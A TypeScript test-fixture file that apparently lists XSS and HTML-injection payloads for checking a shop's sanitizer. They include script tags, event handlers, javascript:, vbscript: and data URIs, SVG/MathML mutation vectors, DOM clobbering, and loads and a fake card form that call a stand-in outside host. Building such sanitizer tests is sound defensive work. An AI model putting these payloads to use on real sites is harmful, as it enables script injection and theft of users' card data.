/** Sets this mark where it runs; nothing but words and honest markup may be left of what carries it. */
const RUN = 'window.hasRun=1';
const OUT = 'https://outside.example';

/** HTML that wants to run, load, cover or lead away: one of each kind that a browser knows, written for this shop. */
export const OWN_PAYLOADS: readonly string[] = [
  // Scripts, plain, in odd letters, broken, nested, encoded.
  `<script>${RUN}</script>`,
  `<sCrIpT/x>${RUN}</ScRiPt >`,
  `<scr<script></script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${OUT}/a.js" async></script>`,
  `<script type="module">import '${OUT}/b.js'</script>`,
  `<<script>${RUN}//<</script>`,
  `<script\u0000>${RUN}</script\u0000>`,
  // Handlers, in every way to separate and to quote them.
  `<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img src=x\tonerror\n=\r"${RUN}">`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<p onpointerenter=${RUN} oncopy=${RUN} onanimationend=${RUN}>hover over it</p>`,
  `<details open ontoggle=${RUN}><summary>fold</summary></details>`,
  `<input autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}></textarea>`,
  `<video autoplay onloadstart=${RUN}><source src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  `<body onpageshow=${RUN} onhashchange=${RUN}>`,
  `<marquee onstart=${RUN} loop=1>go</marquee>`,
  `<div onbeforematch=${RUN} hidden=until-found>found</div>`,
  // Addresses that run.
  `<a href="javascript:${RUN}">plain</a>`,
  `<a href="\u0001java\tscr\nipt:${RUN}">control characters</a>`,
  `<a href="&#x6A;&#97;vascript&colon;${RUN}">entities</a>`,
  `<a href="vbscript:msgbox(1)">basic</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFzUnVuPTE8L3NjcmlwdD4=">data</a>`,
  `<a href="blob:${OUT}/x">blob</a><a href="filesystem:${OUT}/x">file system</a>`,
  `<a href="https:outside.example" ping="${OUT}/ping" target="_blank">ping</a>`,
  // Vectors and formulas, in which other rules hold.
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}" begin="0s" /><a><text>link</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hasRun=1</script>"></iframe></foreignObject></svg>`,
  `<math href="javascript:${RUN}"><mi>click</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  // Pages in the page, and what takes the page away.
  `<iframe src="javascript:parent.hasRun=1"></iframe>`,
  `<object data="${OUT}/x.swf"></object><embed src="${OUT}/x.swf"><applet code="X"></applet>`,
  `<frameset><frame src="${OUT}/"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}/">`,
  `<base href="${OUT}/">`,
  `<portal src="${OUT}/"></portal><fencedframe></fencedframe>`,
  // What loads something, and so reports to another server who reads it.
  `<img srcset="${OUT}/a.png 1x, ${OUT}/b.png 2x" loading=eager>`,
  `<link rel="preconnect" href="${OUT}"><link rel="stylesheet" href="${OUT}/x.css">`,
  `<table background="${OUT}/t.png"><tr><td background="${OUT}/d.png">cell</td></tr></table>`,
  `<p style="background:url(${OUT}/p.png)">picture</p>`,
  // Styles that cover, hide or read.
  `<style>@import '${OUT}/x.css'; body { display: none }</style>`,
  `<div style="position:fixed;inset:0;z-index:9999">cover</div>`,
  `<p style="width:expression(${RUN});-moz-binding:url(${OUT}/x.xml#y)">old browsers</p>`,
  // Forms that ask for what the shop never asks for.
  `<form action="${OUT}/card"><input name="card"><button formaction="javascript:${RUN}">Pay</button></form>`,
  `<isindex type=image src=x onerror=${RUN} action="javascript:${RUN}">`,
  // Names that stand for the page's own.
  `<a id="getElementById" name="body">one</a><form name="location"><input name="href"></form>`,
  // Text that another parser reads as markup.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></a></title>`,
  `<textarea><a title="</textarea><img src=x onerror=${RUN}>"></a></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></p></xmp><plaintext-not>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<!--[if true]><script>${RUN}</script><![endif]--><!--><img src=x onerror=${RUN}>-->`,
  `<?xml version="1.0"?><![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<select><template><img src=x onerror=${RUN}></template><option>one</select>`,
  // Elements and attributes of frameworks, and templates.
  `<x-element onclick=${RUN} is="x">custom</x-element>`,
  `<p v-on:click="${RUN}" ng-init="${RUN}" x-data="${RUN}">{{constructor.constructor('${RUN}')()}} \${${RUN}}</p>`,
];
